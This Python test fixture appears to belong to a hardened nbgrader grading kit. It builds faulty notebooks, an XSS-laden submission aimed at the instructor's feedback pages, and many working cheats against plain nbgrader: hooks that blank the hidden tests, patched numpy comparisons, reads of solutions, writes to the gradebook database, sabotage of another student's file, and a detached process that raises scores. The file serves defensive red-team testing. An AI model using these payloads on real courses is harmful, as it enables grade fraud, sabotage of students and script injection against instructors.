"""Faulty and cheating submissions of logistic_regression, graded in scratch courses.

``FAULTS`` are submissions broken the way students' notebooks break: a cell that
never ends, kills its kernel, eats memory or floods its output (one line of 50 MB
too); a notebook that is not JSON, has lost or duplicated test cells, or is
missing; an extra notebook; one slip in the nbgrader metadata of a cell. Each names
the problems whose points survive the fault and the words the report must use.

``hostile_html`` writes a right submission whose written answer and outputs hold
script for the instructor who opens its feedback or formgrader page
(tests/test_sanitize.py).

``CHEATS`` each attack one graded function. A cheat has the reference answer of every
other function, a wrong answer (a ``__wrong_`` variant of variants/) for the one
it attacks, and code that tries to earn that problem's points anyway. Every cheat
earns points under plain ``nbgrader autograde`` (tests/test_redteam.py shows it).
Cheat code reaches course files through paths relative to the folder in which
nbgrader runs a notebook, autograded/<student>/<assignment>/: the course root is
``../../..``, as a cheater would write it.

Only ever grade these submissions in a scratch course: they write to the course.
"""

import hashlib
import os
import shutil
import string
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import nbformat
import pandas as pd
from nbgrader.api import Gradebook

from kit.commands import build, grade
from kit.course import Course, copy_course, demo, nbgrader_meta
from kit.engine import report

REPO = Path(__file__).resolve().parents[1]
ASSIGNMENT = "logistic_regression"
NOTEBOOK = f"{ASSIGNMENT}.ipynb"
# Limits the kit grades these submissions under, and the nbgrader cell timeout of
# the plain-nbgrader run (the course's own timeout is 120 s: too slow for a test).
MEMORY_MB = 2048
TIMEOUT = 20
# In the command line of the process the background-process cheat leaves running.
DAEMON = "kit-adversarial-daemon"
# What grading writes in a course (.kit: its staging area); every other file must
# be left as it was.
OUTPUTS = ("autograded", "feedback", "reports", ".kit")
# The graded functions of the assignment, as its source notebook names them.
ALL = frozenset(demo.answer_cell_ids(demo.source_notebook(Course(REPO), ASSIGNMENT)))


def quiet(*args, **kwargs):
    pass


# --- notebooks


def cell(nb, grade_id):
    """The cell of ``nb`` named ``grade_id``."""
    found = [c for c in nb.cells if nbgrader_meta(c).get("grade_id") == grade_id]
    assert len(found) == 1, f"{len(found)} cells named {grade_id}"
    return found[0]


def reference(course):
    """The release notebook with the reference answer in every answer cell."""
    return demo.with_variants(course, ASSIGNMENT, {})


def write(course, student, nb):
    demo.write_submission(course, student, ASSIGNMENT, nb)


def folder(course, student):
    return course.submitted / student / ASSIGNMENT


def max_points(course):
    """``{problem: points}`` of the hidden test cells of the source notebook."""
    nb = demo.source_notebook(course, ASSIGNMENT)
    return {report.problem_name(meta["grade_id"]): meta["points"]
            for meta in map(nbgrader_meta, nb.cells)
            if meta.get("grade") and meta.get("points")
            and meta["grade_id"].startswith("test_")}


# --- faults


@dataclass(frozen=True)
class Fault:
    """A faulty submission: ``build(course, student)`` writes it; ``surviving`` are
    the problems that keep all their points (the others get none); the flag of kind
    "fault" has every one of ``words`` in its reason (case-insensitive). Plain
    nbgrader gives fewer points to one that ``breaks_nbgrader``
    (tests/test_faults.py shows it)."""

    student: str
    surviving: frozenset
    words: tuple
    build: Callable
    breaks_nbgrader: bool = False  # plain nbgrader loses points on it


def code_in(problem, before="", after=""):
    """Builder: the reference submission with code around one answer."""
    def build_it(course, student):
        nb = reference(course)
        answer = cell(nb, problem)
        answer.source = before + answer.source + after
        write(course, student, nb)
    return build_it


def invalid_json(course, student):
    write(course, student, reference(course))
    path = folder(course, student) / NOTEBOOK
    text = path.read_text(encoding="utf-8")
    path.write_text(text[: len(text) // 2], encoding="utf-8")


def without_cells(*grade_ids):
    def build_it(course, student):
        nb = reference(course)
        nb.cells = [c for c in nb.cells if nbgrader_meta(c).get("grade_id")
                    not in grade_ids]
        write(course, student, nb)
    return build_it


def duplicated_cell(grade_id):
    def build_it(course, student):
        nb = reference(course)
        original = cell(nb, grade_id)
        copy = nbformat.from_dict(original)
        copy["id"] = f"{grade_id}-copy"
        nb.cells.insert(nb.cells.index(original) + 1, copy)
        write(course, student, nb)
    return build_it


def stripped_metadata(grade_id):
    def build_it(course, student):
        nb = reference(course)
        cell(nb, grade_id).metadata.pop("nbgrader")
        write(course, student, nb)
    return build_it


def tampered(edit):
    """Builder: the reference submission with one edit of its cells."""
    def build_it(course, student):
        nb = reference(course)
        edit(nb)
        write(course, student, nb)
    return build_it


def set_metadata(name, **changes):
    """Edit: ``changes`` in the nbgrader metadata of cell ``name`` (None removes a
    key)."""
    def edit(nb):
        meta = cell(nb, name).metadata.nbgrader
        meta.update(changes)
        for key in [k for k, v in changes.items() if v is None]:
            del meta[key]
    return edit


def made_markdown(grade_id):
    def edit(nb):
        found = cell(nb, grade_id)
        found.cell_type = "markdown"
        del found["outputs"], found["execution_count"]
    return edit


def added_graded_cell(nb):
    extra = nbformat.v4.new_code_cell("# my notes\n", metadata={"nbgrader": {
        "grade": True, "grade_id": "my_bonus", "locked": False, "points": 10,
        "solution": False, "schema_version": 3}})
    nb.cells.insert(nb.cells.index(cell(nb, "sigmoid")) + 1, extra)


def missing_notebook(course, student):
    path = folder(course, student)
    if path.exists():
        shutil.rmtree(path)
    path.mkdir(parents=True)


def extra_notebook(course, student):
    write(course, student, reference(course))
    extra = demo.fill(demo.release_notebook(course, ASSIGNMENT), {})
    (folder(course, student) / f"{ASSIGNMENT}-Copy1.ipynb").write_text(
        nbformat.writes(extra), encoding="utf-8")


# 6 GB in 128 MB blocks, each written: far above the kit's memory limit, and finite
# so that a grader without a limit does not take the machine down. The blocks live
# on the comprehension's stack, so a MemoryError frees them.
MEMORY_HOG = "_blocks = [bytearray(b'x') * (128 << 20) for _ in range(48)]\n\n"

FAULTS = [
    # A loop at the top of the cell: loss_grad is never defined.
    Fault("fault-infinite-loop", ALL - {"loss_grad"}, ("longer than",),
          code_in("loss_grad", before="while True:\n    pass\n\n\n")),
    # The last answer kills the kernel before defining decision_boundary.
    Fault("fault-os-exit", ALL - {"decision_boundary"}, ("kernel",),
          code_in("decision_boundary", before="import os\n\nos._exit(1)\n\n\n")),
    Fault("fault-memory", ALL - {"predict"}, ("memory limit",),
          code_in("predict", before=MEMORY_HOG)),
    # A million lines (one print: a loop of prints is slow enough to time out)
    # after a correct sigmoid: every answer stands.
    Fault("fault-million-lines", ALL, ("output",),
          code_in("sigmoid", after="\n\n\nprint('\\n'.join(map(str, "
                                   "range(1_000_000))))\n")),
    # One line of 50 MB, which a limit on lines lets through whole.
    Fault("fault-huge-line", ALL, ("sigmoid", "only the start"),
          code_in("sigmoid", after="\n\n\nprint('x' * 50_000_000)\n")),
    Fault("fault-invalid-json", frozenset(), (NOTEBOOK, "JSON"), invalid_json),
    # Test cells lost, doubled or unnamed: the answers are right, and the hidden
    # tests are the instructor's, not the student's copy.
    Fault("fault-tests-deleted", ALL, ("test_predict",),
          without_cells("check_predict", "test_predict")),
    Fault("fault-tests-duplicated", ALL, ("test_loss_grad",),
          duplicated_cell("test_loss_grad")),
    Fault("fault-metadata-stripped", ALL, ("test_binary_cross_entropy",),
          stripped_metadata("test_binary_cross_entropy")),
    # One slip in the nbgrader metadata of a right submission (the cell edited in a
    # text editor, or by a notebook tool): plain nbgrader loses points on it or
    # rejects the notebook (breaks_nbgrader); the kit grades it as released.
    Fault("fault-test-not-graded", ALL, ("test_sigmoid", "restored"),
          tampered(set_metadata("test_sigmoid", grade=False)), breaks_nbgrader=True),
    Fault("fault-points-removed", ALL, ("test_loss_grad", "restored"),
          tampered(set_metadata("test_loss_grad", points=None)),
          breaks_nbgrader=True),
    Fault("fault-points-changed", ALL, ("test_predict", "restored"),
          tampered(set_metadata("test_predict", points=10))),
    Fault("fault-answer-given-points", ALL, ("binary_cross_entropy", "restored"),
          tampered(set_metadata("binary_cross_entropy", grade=True, points=5)),
          breaks_nbgrader=True),
    Fault("fault-cell-added-with-points", ALL, ("my_bonus", "not a cell"),
          tampered(added_graded_cell), breaks_nbgrader=True),
    Fault("fault-test-made-markdown", ALL, ("test_logistic_regression", "restored"),
          tampered(made_markdown("test_logistic_regression"))),
    Fault("fault-grade-id-changed", ALL, ("test_decision_boundary",),
          tampered(set_metadata("test_decision_boundary",
                                grade_id="test_decision_boundary_v2")),
          breaks_nbgrader=True),
    Fault("fault-missing-notebook", frozenset(), ("missing", NOTEBOOK),
          missing_notebook),
    Fault("fault-extra-notebook", ALL, (f"{ASSIGNMENT}-Copy1.ipynb",),
          extra_notebook),
]


# --- script for the instructor

# Every script a hostile submission plants calls this name: a page that shows it
# only as text runs none of them.
XSS = "kitxss"
XSS_STUDENT = "hostile-html"
XSS_ANSWER = f"""The gradient vanishes. <script>{XSS}(1)</script>

<img src=x onerror="fetch('/api/kernels', {{method: 'POST'}}); {XSS}(2)">

See [my notes](javascript:{XSS}(3)).
"""
XSS_DISPLAYS = f'''


from IPython.display import HTML, SVG, Javascript, Latex, Markdown, display

display(HTML("<script>{XSS}(4)</script><b onmouseover='{XSS}(5)'>bold</b>"))
display(HTML("<svg onload='{XSS}(6)'><circle r='5'/></svg>"))
display(Javascript("{XSS}(7)"))
display(Markdown("<img src=x onerror={XSS}(8)> [x](javascript:{XSS}(9))"))
display(Latex("$x$ <script>{XSS}(10)</script>"))
display(SVG("<svg xmlns='http://www.w3.org/2000/svg'><script>{XSS}(11)</script></svg>"))
display({{"image/png": 'AAAA"><script>{XSS}(12)</script>'}}, raw=True)
'''
XSS_RAW = f"<script>{XSS}(13)</script>"


def hostile_html(course, student=XSS_STUDENT):
    """The reference submission, its answers right, with script for the instructor
    in a written answer, in a raw cell and in what the sigmoid cell displays."""
    nb = reference(course)
    cell(nb, "written_eps").source = XSS_ANSWER
    cell(nb, "sigmoid").source += XSS_DISPLAYS
    raw = nbformat.v4.new_raw_cell(XSS_RAW, metadata={"raw_mimetype": "text/html"})
    nb.cells.insert(nb.cells.index(cell(nb, "written_eps")) + 1, raw)
    write(course, student, nb)


# --- cheats


@dataclass(frozen=True)
class Cheat:
    """A cheating submission: the reference everywhere, variant ``wrong`` in the
    answer cell of ``problem`` followed by ``attack`` (``$wrong_source`` in it is
    the source of that variant). The flag has a kind in ``kinds`` and every one of
    ``words`` in its reason (case-insensitive)."""

    student: str
    problem: str
    wrong: str
    attack: str
    words: tuple
    kinds: tuple = ("cheat",)

    def build(self, course, student=None):
        module = demo.load_variants(course, ASSIGNMENT)
        wrong = demo.variant_source(module, self.wrong)
        attack = string.Template(self.attack).substitute(wrong_source=repr(wrong))
        answers = demo.reference_answers(course, ASSIGNMENT)
        answers[self.problem] = wrong.rstrip() + "\n\n\n" + attack.strip() + "\n"
        nb = demo.fill(demo.release_notebook(course, ASSIGNMENT), answers)
        write(course, student or self.student, nb)


# The grade row of one hidden test of the student being graded (SQLite gradebook).
GRADE_ROW = """
    cell_id in (select id from base_cell where name = ?)
    and notebook_id in (select sn.id from submitted_notebook sn
                        join submitted_assignment sa on sn.assignment_id = sa.id
                        where sa.student_id = ?)"""
FULL_MARKS = ("(select max_score from grade_cells "
              "where grade_cells.id = grade.cell_id)")

# Runs a hidden test with lib.checks replaced by a recorder that keeps the value
# each check expects, then answers the test's inputs with those values.
HARD_CODE = '''
import contextlib
import functools

import numpy


def _key(args, kwargs):
    arrays = [numpy.asarray(a) for a in args]
    return (repr([(a.shape, a.dtype.str, a.tobytes()) for a in arrays]),
            repr(sorted(kwargs.items())))


class _Call:
    def __init__(self, key):
        self.key = key


class _Recorder:
    def __init__(self):
        self.expected = {}

    def call(self, fn, *args, forbid_warnings=False, what=None, **kwargs):
        return fn(*args, **kwargs)

    def check_close(self, actual, expected, *args, **kwargs):
        if isinstance(actual, _Call):
            self.expected[actual.key] = expected

    check_equal = check_close

    def substituted(self, *args, **kwargs):
        return contextlib.nullcontext()

    def __getattr__(self, name):
        return lambda *args, **kwargs: None


def _hard_coded(function, read_test):
    recorder = _Recorder()
    namespace = dict(globals(), checks=recorder)
    namespace[function.__name__] = lambda *args, **kwargs: _Call(_key(args, kwargs))
    try:
        exec(read_test(), namespace)
    except Exception:
        pass

    @functools.wraps(function)
    def answer(*args, **kwargs):
        key = _key(args, kwargs)
        if key in recorder.expected:
            return recorder.expected[key]
        return function(*args, **kwargs)
    return answer
'''


def read_test_from_notebook(path, problem):
    return f'''
import json


def _read_test():
    with open({path!r}, encoding="utf-8") as f:
        cells = json.load(f)["cells"]
    for c in cells:
        if c["metadata"].get("nbgrader", {{}}).get("grade_id") == "test_{problem}":
            return "".join(c["source"])
    raise LookupError("test_{problem}")
'''


def hard_coded_from_notebook(path, problem):
    return (HARD_CODE + read_test_from_notebook(path, problem)
            + f"\n\n{problem} = _hard_coded({problem}, _read_test)\n")


# Forgive one kind of exception: no error output, no stderr, a successful reply.
FORGIVE = '''
import sys

from IPython.display import clear_output


def _forgive(result):
    if isinstance(result.error_in_exec, {exception}):
        result.error_in_exec = None
        sys.stderr.flush()
        clear_output()


get_ipython().events.register("post_run_cell", _forgive)
'''

DAEMON_CODE = f'''
import sqlite3
import sys
import time

url, student = sys.argv[2], sys.argv[3]
row = """{GRADE_ROW}"""
deadline = time.monotonic() + 300
while time.monotonic() < deadline:
    time.sleep(0.2)
    try:
        db = sqlite3.connect(url, uri=True, timeout=30)
        score = db.execute("select auto_score from grade where " + row,
                           ("test_logistic_regression", student)).fetchone()
        if score is not None and score[0] is not None:
            db.execute("update grade set auto_score = {FULL_MARKS} where " + row,
                       ("test_logistic_regression", student))
            db.commit()
            break
    except sqlite3.Error:
        pass
'''

CHEATS = [
    # The known attack on nbgrader: every later cell, hidden tests included,
    # becomes `pass`.
    Cheat("cheat-input-transformers", "sigmoid", "sigmoid__wrong_sign",
          "get_ipython().input_transformers_cleanup.append(lambda lines: ['pass\\n'])",
          ("input_transformers",)),
    Cheat("cheat-ast-transformers", "binary_cross_entropy",
          "binary_cross_entropy__wrong_sign", '''
import ast


class _SkipHiddenTests(ast.NodeTransformer):
    def visit_Module(self, node):
        doc = ast.get_docstring(node) or ""
        if doc.startswith("Hidden tests of binary_cross_entropy"):
            node.body = [ast.Pass()]
        return node


get_ipython().ast_transformers.append(_SkipHiddenTests())
''', ("ast_transformers",)),
    # nbgrader adds the reply's error when showtraceback sends none; the hook
    # makes the reply a success too.
    Cheat("cheat-showtraceback", "loss_grad", "loss_grad__wrong_sign", '''
_shell = get_ipython()
_shell.showtraceback = lambda *args, **kwargs: None


def _forget_errors(result):
    result.error_in_exec = None


_shell.events.register("post_run_cell", _forget_errors)
''', ("showtraceback",)),
    Cheat("cheat-imitate-pass", "logistic_regression",
          "logistic_regression__wrong_ascent", '''
import sys

from IPython.display import clear_output


def _look_passed(result):
    if result.error_in_exec is not None:
        result.error_in_exec = None
        sys.stderr.flush()
        clear_output()
        print("logistic_regression: hidden tests passed.")


get_ipython().events.register("post_run_cell", _look_passed)
''', ("test result",)),
    # IPython reports SystemExit and KeyboardInterrupt like any error: skipping
    # the rest of a test needs the hook that hides them.
    Cheat("cheat-sys-exit", "predict", "predict__wrong_strict", '''
def predict(X, theta):
    sys.exit("skip the tests")
''' + FORGIVE.format(exception="SystemExit"), ("sys.exit",)),
    Cheat("cheat-keyboard-interrupt", "decision_boundary",
          "decision_boundary__wrong_sign", '''
def decision_boundary(theta):
    raise KeyboardInterrupt
''' + FORGIVE.format(exception="KeyboardInterrupt"), ("KeyboardInterrupt",)),
    # The hidden tests compare through lib.checks.check_close, which calls
    # np.isclose; the others are what other test suites call.
    Cheat("cheat-patch-numpy", "logistic_regression",
          "logistic_regression__wrong_ignores_alpha", '''
import math

import numpy
import numpy.testing


def _agree(a, b, *args, **kwargs):
    shape = numpy.broadcast(numpy.asarray(a), numpy.asarray(b)).shape
    return numpy.ones(shape, dtype=bool)


numpy.isclose = _agree
numpy.allclose = lambda *args, **kwargs: True
math.isclose = lambda *args, **kwargs: True
numpy.testing.assert_allclose = lambda *args, **kwargs: None
numpy.testing.assert_array_equal = lambda *args, **kwargs: None
''', ("isclose",)),
    Cheat("cheat-patch-checks", "predict", "predict__wrong_strict", '''
from lib import checks as _checks

_checks.check_equal = _checks.check_dtype = lambda *args, **kwargs: None
''', ("checks",)),
    Cheat("cheat-patch-reference", "decision_boundary",
          "decision_boundary__wrong_sign", '''
import lib.logistic

lib.logistic.decision_boundary = decision_boundary
''', ("lib.logistic",)),
    # Hidden tests read back and replayed to hard-code the values they expect.
    Cheat("cheat-read-graded-notebook", "sigmoid", "sigmoid__wrong_sign",
          hard_coded_from_notebook(NOTEBOOK, "sigmoid"), (NOTEBOOK,)),
    Cheat("cheat-read-solutions", "binary_cross_entropy",
          "binary_cross_entropy__wrong_sum",
          hard_coded_from_notebook(f"../../../solutions/{ASSIGNMENT}/{NOTEBOOK}",
                                   "binary_cross_entropy"), ("solutions/",)),
    Cheat("cheat-read-gradebook", "predict", "predict__wrong_threshold_on_logits",
          HARD_CODE + '''
import sqlite3


def _read_test():
    db = sqlite3.connect("file:../../../gradebook.db?mode=ro", uri=True)
    (source,), = db.execute(
        "select source from source_cell where name = 'test_predict'")
    return source


predict = _hard_coded(predict, _read_test)
''', ("gradebook",)),
    Cheat("cheat-read-source", "loss_grad", "loss_grad__wrong_sum_not_mean", f'''
import json

try:
    with open("../../../source/{ASSIGNMENT}/{NOTEBOOK}", encoding="utf-8") as _f:
        for _cell in json.load(_f)["cells"]:
            if _cell["metadata"].get("nbgrader", {{}}).get("grade_id") == "loss_grad":
                exec("".join(_cell["source"]))
except Exception:
    pass
''', ("source/",)),
    Cheat("cheat-lib-direct", "sigmoid", "sigmoid__wrong_where_both_branches",
          "from lib.logistic import sigmoid", ("lib.logistic",)),
    Cheat("cheat-lib-importlib", "loss_grad", "loss_grad__wrong_regularized_bias", '''
import importlib

loss_grad = importlib.import_module("lib.logistic").loss_grad
''', ("importlib",)),
    Cheat("cheat-lib-path", "predict", "predict__wrong_probabilities", '''
import importlib.util

try:
    _spec = importlib.util.spec_from_file_location("_course_logistic",
                                                   "../../../lib/logistic.py")
    _module = importlib.util.module_from_spec(_spec)
    _spec.loader.exec_module(_module)
    predict = _module.predict
except Exception:
    pass
''', ("lib/logistic.py",)),
    # Full marks as a manual score, which autograding never overwrites; a student
    # row made up; another student's grade set to zero.
    Cheat("cheat-write-gradebook", "logistic_regression",
          "logistic_regression__wrong_loss_before_step", f'''
import os
import sqlite3

try:
    _db = sqlite3.connect("file:../../../gradebook.db?mode=rw", uri=True, timeout=60)
    _db.execute("""update grade set manual_score = {FULL_MARKS} where {GRADE_ROW}""",
                ("test_logistic_regression",
                 os.path.basename(os.path.dirname(os.getcwd()))))
    _db.execute("""update grade set manual_score = 0 where {GRADE_ROW}""",
                ("test_sigmoid", "reference"))
    _db.execute("insert or ignore into student (id) values ('ghost-student')")
    _db.commit()
    _db.close()
except Exception:
    pass
''', ("gradebook",)),
    Cheat("cheat-other-student", "sigmoid", "sigmoid__wrong_overflow", f'''
import json

_victim = "../../../submitted/reference/{ASSIGNMENT}/{NOTEBOOK}"
try:
    with open(_victim, encoding="utf-8") as _f:
        _nb = json.load(_f)
    for _cell in _nb["cells"]:
        if _cell["metadata"].get("nbgrader", {{}}).get("grade_id") == "sigmoid":
            exec("".join(_cell["source"]))
            _cell["source"] = "def sigmoid(z):\\n    raise NotImplementedError()\\n"
    with open(_victim, "w", encoding="utf-8") as _f:
        json.dump(_nb, _f)
except Exception:
    pass
''', ("submitted/reference",)),
    # The course's reference rewritten to agree with the wrong answer, and the
    # module dropped so that the hidden test imports the new file.
    Cheat("cheat-course-files", "decision_boundary",
          "decision_boundary__wrong_swapped", '''
import sys

import lib

try:
    with open("../../../lib/logistic.py", "a", encoding="utf-8") as _f:
        _f.write("\\n\\n" + $wrong_source)
    sys.modules.pop("lib.logistic", None)
    vars(lib).pop("logistic", None)
except Exception:
    pass
''', ("lib/logistic.py",)),
    # A process that outlives the kernel and raises the score once autograding
    # has written it.
    Cheat("cheat-background-process", "logistic_regression",
          "logistic_regression__wrong_ascent", f'''
import os
import subprocess
import sys

subprocess.Popen(
    [sys.executable, "-c", {DAEMON_CODE!r}, {DAEMON!r},
     "file:" + os.path.abspath("../../../gradebook.db") + "?mode=rw",
     os.path.basename(os.path.dirname(os.getcwd()))],
    start_new_session=True, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
    stderr=subprocess.DEVNULL)
''', ("process",)),
    # A thread that outlives its cell and keeps the reference equal to the answer.
    Cheat("cheat-background-thread", "binary_cross_entropy",
          "binary_cross_entropy__wrong_sum", '''
import sys
import threading
import time

_answer = binary_cross_entropy


def _keep_reference_wrong():
    while True:
        module = sys.modules.get("lib.logistic")
        if module is not None and module.binary_cross_entropy is not _answer:
            module.binary_cross_entropy = _answer
        time.sleep(0.01)


threading.Thread(target=_keep_reference_wrong, daemon=True).start()
''', ("thread",)),
    # Full marks written as the automatic score, then the next cell sleeps past the
    # time limit with interrupts ignored: nbgrader gives up on the notebook before
    # it writes the real scores.
    Cheat("cheat-stall-next-cell", "predict", "predict__wrong_threshold_on_logits",
          f'''
import os
import signal
import sqlite3
import time

try:
    _db = sqlite3.connect("file:../../../gradebook.db?mode=rw", uri=True, timeout=60)
    _db.execute("""update grade set auto_score = {FULL_MARKS} where {GRADE_ROW}""",
                ("test_predict", os.path.basename(os.path.dirname(os.getcwd()))))
    _db.commit()
    _db.close()
except Exception:
    pass


def _stall(info):
    get_ipython().events.unregister("pre_run_cell", _stall)
    signal.signal(signal.SIGINT, signal.SIG_IGN)
    time.sleep(600)


get_ipython().events.register("pre_run_cell", _stall)
''', ("sleep",), kinds=("cheat", "fault")),
]


# --- courses


def demo_scores(course):
    """``{student: {problem: score}}`` the demo submissions must get."""
    points = max_points(course)
    module = demo.load_variants(course, ASSIGNMENT)
    wrong = {s: {demo.parse_variant_name(v).function for v in names}
             for s, names in module.demo.items()}
    wrong["reference"] = set()
    expected = {s: {p: 0 if p in w else m for p, m in points.items()}
                for s, w in wrong.items()}
    expected["untouched"] = dict.fromkeys(points, 0)
    return expected


def write_demos(course):
    for student, nb in demo.demo_notebooks(course, ASSIGNMENT).items():
        write(course, student, nb)


_BUILT = {}


def built(tmp_path_factory):
    """A scratch course of logistic_regression, built once per test session."""
    key = str(tmp_path_factory.getbasetemp())
    if key not in _BUILT:
        course = copy_course(REPO, tmp_path_factory.mktemp("adversarial-built"),
                             submissions=False, assignments=[ASSIGNMENT])
        build.build(course, log=quiet)
        _BUILT[key] = course
    return _BUILT[key]


def copy_of(course, path):
    """A copy of a built course at ``path``, without submissions or outputs."""
    shutil.copytree(course.root, path, ignore=shutil.ignore_patterns(
        "submitted", *OUTPUTS, "__pycache__"), dirs_exist_ok=True)
    return Course(path)


def fingerprint(root):
    """``{path: sha256}`` of the files of a course that grading must not change."""
    found = {}
    for path in sorted(root.rglob("*")):
        rel = path.relative_to(root)
        if (not path.is_file() or rel.parts[0] in OUTPUTS
                or rel.parts[0].startswith("gradebook")
                or "__pycache__" in rel.parts or ".ipynb_checkpoints" in rel.parts):
            continue
        found[str(rel)] = hashlib.sha256(path.read_bytes()).hexdigest()
    return found


def processes(marker=None, cwd_under=None):
    """Command lines of running processes with ``marker`` in their argv or their
    working directory under ``cwd_under`` (read from /proc)."""
    found = []
    for proc in Path("/proc").iterdir():
        if not proc.name.isdigit() or int(proc.name) == os.getpid():
            continue
        try:
            argv = (proc / "cmdline").read_bytes().replace(b"\0", b" ").decode()
            cwd = os.readlink(proc / "cwd") if cwd_under else ""
        except OSError:  # gone, or not ours to read
            continue
        if (marker and marker in argv) or (cwd_under and argv and Path(cwd)
                                           .is_relative_to(cwd_under)):
            found.append(f"{proc.name}: {argv.strip()}")
    return found


@dataclass
class Graded:
    """A course of demo, faulty and cheating submissions, graded
    (``kit.commands.grade.run``)."""

    course: Course
    scores: pd.DataFrame
    flags: pd.DataFrame
    students: set  # the submitted students
    changed: list  # course files changed, added or removed by grading
    strays: list  # processes left running by submissions
    gradebook_students: set = field(default_factory=set)
    manual_scores: list = field(default_factory=list)  # (student, cell) with one


_GRADED = {}


def graded(tmp_path_factory):
    """Every fault and cheat with the demo submissions, graded once by the kit."""
    key = str(tmp_path_factory.getbasetemp())
    if key in _GRADED:
        return _GRADED[key]
    course = copy_of(built(tmp_path_factory),
                     tmp_path_factory.getbasetemp() / "adversarial-kit")
    write_demos(course)
    for fault in FAULTS:
        fault.build(course, fault.student)
    for cheat in CHEATS:
        cheat.build(course)
    hostile_html(course)
    students = {d.name for d in course.submitted.iterdir()}
    before = fingerprint(course.root)
    grade.run(course, log=quiet, memory_mb=MEMORY_MB, timeout=TIMEOUT)
    after = fingerprint(course.root)
    changed = sorted(p for p in before.keys() | after.keys()
                     if before.get(p) != after.get(p))
    strays = processes(DAEMON, cwd_under=course.root)
    with Gradebook(course.gradebook_url) as gb:
        gradebook_students = {s.id for s in gb.students}
        manual = [(s.student.id, g.name) for a in gb.assignments
                  for s in a.submissions for n in s.notebooks for g in n.grades
                  if g.cell_type == "code" and g.manual_score is not None]
    flags = pd.read_csv(course.reports / "flags.csv")
    _GRADED[key] = Graded(course, report.scores(course), flags, students, changed,
                          strays, gradebook_students, manual)
    return _GRADED[key]


_PLAIN = {}


def plain_graded(tmp_path_factory):
    """What plain nbgrader makes of the reference, of the faults that break it, of
    the huge line and of the hostile HTML: a scratch course graded by ``nbgrader
    autograde`` and ``nbgrader generate_feedback``, once per test session.

    Returns ``(course, scores)``.
    """
    key = str(tmp_path_factory.getbasetemp())
    if key not in _PLAIN:
        course = copy_of(built(tmp_path_factory),
                         tmp_path_factory.getbasetemp() / "adversarial-plain-nbgrader")
        write(course, "reference", reference(course))
        for fault in FAULTS:
            if fault.breaks_nbgrader or fault.student == "fault-huge-line":
                fault.build(course, fault.student)
        hostile_html(course)
        course.nbgrader("autograde", ASSIGNMENT, "--force",
                        f"--Execute.timeout={TIMEOUT}", check=False)
        course.nbgrader("generate_feedback", ASSIGNMENT, "--force", check=False)
        _PLAIN[key] = (course, report.scores(course))
    return _PLAIN[key]


# --- checks shared by the tests


def points(scores, student):
    """``{problem: score}`` of one submission's automatic grades (NaN if ungraded)."""
    rows = scores[(scores.assignment == ASSIGNMENT) & (scores.student == student)
                  & (scores.kind == "auto")]
    return dict(zip(rows.problem, rows.score, strict=True))


def flags_of(flags, student):
    rows = flags[(flags.student == student) & (flags.assignment == ASSIGNMENT)]
    return list(zip(rows.kind, rows.reason, strict=True))


def assert_flagged(flags, student, kinds, words):
    found = flags_of(flags, student)
    assert any(kind in kinds and all(w.lower() in str(reason).lower() for w in words)
               for kind, reason in found), (
        f"{student}: no flag of kind {' or '.join(kinds)} whose reason mentions "
        f"{', '.join(map(repr, words))}; flags: {found}")


def assert_demo_scores(run):
    """The demo submissions keep exactly their scores and are not flagged."""
    for student, expected in demo_scores(run.course).items():
        assert points(run.scores, student) == expected, student
        assert not flags_of(run.flags, student), (student, flags_of(run.flags,
                                                                      student))
